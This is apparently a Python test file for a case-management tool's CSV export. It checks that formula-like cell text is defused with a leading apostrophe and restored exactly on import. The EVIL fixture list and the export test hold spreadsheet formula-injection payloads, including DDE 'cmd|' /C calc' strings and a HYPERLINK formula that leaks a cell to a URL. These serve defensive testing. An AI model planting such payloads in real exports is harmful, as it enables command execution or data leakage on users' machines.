"""CSV that people open in a spreadsheet: the dashboard's ``safe_csv`` and ``findme export``.

A line break inside a cell stays inside one quoted cell, and no line a spreadsheet could read as
a row starts with a formula character (``= + - @``, tab, CR), also after a line break inside a
cell: such text gets a leading apostrophe (OWASP), which the import takes off again, so a phone
number like ``+91 98765 43210`` goes out and comes back unchanged. Checked with Python's csv
module, with LibreOffice (``soffice --headless --convert-to xlsx``, when installed) and
openpyxl; a raw CSV with the same cells is the control that the harness sees formulas at all.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd

from findme.cases.records import CaseDetails, open_records
from findme.cases.transfer import defuse_cell, export_cases, open_sheet, restore_cell
from findme.config import Settings
from findme.ui.export import safe_csv

FORMULA = ("=", "+", "-", "@", "\t", "\r")
EVIL = [
    '\r=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")',
    "seen at the bus stop\n=cmd|' /C calc'!A0",
    "two\r\n-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "'=already quoted",
    "+91 98765 43210",
]
LINE_BREAK = re.compile(r"\r\n|\r|\n")


def _lines_start_clean(text: str) -> bool:
    """No line of ``text`` (split at CR LF, CR or LF, as spreadsheets do) starts a formula."""
    return not any(line.startswith(FORMULA) for line in LINE_BREAK.split(text))


def _number(text: str) -> str | float:
    """``text`` as a spreadsheet takes a plain number (``-0.5``), else as it is."""
    try:
        return float(text)
    except ValueError:
        return text


def _spreadsheet_cells(csv_text: str, tmp_path: Path) -> list[tuple[str, object]]:
    """(openpyxl data type, value) of every cell a spreadsheet makes of ``csv_text``: LibreOffice
    converts it to .xlsx when installed; otherwise the csv module's rows are put into an openpyxl
    sheet, which (like a spreadsheet) takes a text starting with ``=`` for a formula."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice:
        folder = tmp_path / f"lo-{abs(hash(csv_text))}"
        folder.mkdir()
        src = folder / "sheet.csv"
        src.write_bytes(csv_text.encode())
        subprocess.run([soffice, f"-env:UserInstallation=file://{folder / 'profile'}",
                        "--headless", "--convert-to", "xlsx", "--outdir", str(folder), str(src)],
                       check=True, capture_output=True, timeout=300)
        book = openpyxl.load_workbook(folder / "sheet.xlsx")
    else:
        book = openpyxl.Workbook()
        for row in csv.reader(io.StringIO(csv_text, newline="")):
            book.active.append([_number(v) for v in row])
        buf = io.BytesIO()
        book.save(buf)
        book = openpyxl.load_workbook(buf)
    return [(c.data_type, c.value) for row in book.active.iter_rows() for c in row]


def test_raw_csv_control_the_harness_sees_the_formula(tmp_path: Path) -> None:
    """Without defusing, a CR in a cell written by csv with ``\\n`` line ends splits the row and
    the spreadsheet runs ``=HYPERLINK``: the check below would catch it."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(["x", "\r=1+2"])
    assert "f" in [kind for kind, _ in _spreadsheet_cells(buf.getvalue(), tmp_path)]


def test_safe_csv_keeps_line_breaks_in_one_cell_and_starts_no_formula(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": EVIL, "score": [-0.5, 0.5, 1.5, 2.5, 3.5, 4.5]})
    text = safe_csv(frame)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(EVIL)  # no cell split into a new row
    assert [r[1] for r in rows[1:]] == ["-0.5", "0.5", "1.5", "2.5", "3.5", "4.5"]  # numbers stay
    assert all(_lines_start_clean(row[0]) for row in rows)  # every text cell
    assert _lines_start_clean(text)  # nor any physical line of the file
    assert [restore_cell(r[0]) for r in rows[1:]] == EVIL  # the apostrophes come off exactly
    cells = _spreadsheet_cells(text, tmp_path)
    assert "f" not in [kind for kind, _ in cells], cells
    assert all(_lines_start_clean(v) for kind, v in cells if kind == "s"), cells


def test_export_round_trips_phone_numbers_and_line_breaks_exactly(ws_settings: Settings,
                                                                  tmp_path: Path) -> None:
    """``findme export``'s cases.csv: formula-like text defused (apostrophe, no space), read back
    by the import exactly as it was stored, phone numbers included."""
    records = open_records(ws_settings)
    stored = {"name": "=HYPERLINK(\"http://x\")", "guardian": "+91 98765 43210",
              "description": EVIL[1] + "\r" + EVIL[0], "last_seen": "-2+3+cmd|' /C calc'!A0",
              "lawful_basis": "'+ kept as typed"}
    try:
        records.create_case(CaseDetails(
            name=stored["name"], ref="F-1", guardian_contact=stored["guardian"],
            description=stored["description"], last_seen_place=stored["last_seen"],
            lawful_basis=stored["lawful_basis"]))
        buf = io.BytesIO()
        assert export_cases(records, ws_settings, buf, "tester") == 1
    finally:
        records.engine.dispose()
    text = zipfile.ZipFile(buf).read("cases.csv").decode()
    assert "'+91 98765 43210" in text and " +91" not in text
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == 2
    assert all(_lines_start_clean(cell) for row in parsed for cell in row)
    assert _lines_start_clean(text)
    cells = _spreadsheet_cells(text, tmp_path)
    assert "f" not in [kind for kind, _ in cells], cells

    rows, _, _ = open_sheet("export.zip", buf.getvalue())
    assert {k: rows[0][k] for k in stored} == stored


def test_defusing_is_undone_exactly_for_every_short_text() -> None:
    """Every text of up to 5 characters over the characters that matter round-trips, and the
    defused text never starts a line with a formula character."""
    alphabet = ["'", "=", "+", "\r", "\n", "\t", "a", " "]
    for n in range(6):
        for chars in itertools.product(alphabet, repeat=n):
            value = "".join(chars)
            out = defuse_cell(value)
            assert restore_cell(out) == value, (value, out)
            assert _lines_start_clean(out), (value, out)
    assert defuse_cell("'Tis") == "'Tis" and restore_cell("'Tis") == "'Tis"
    assert defuse_cell("+91 98765 43210") == "'+91 98765 43210"
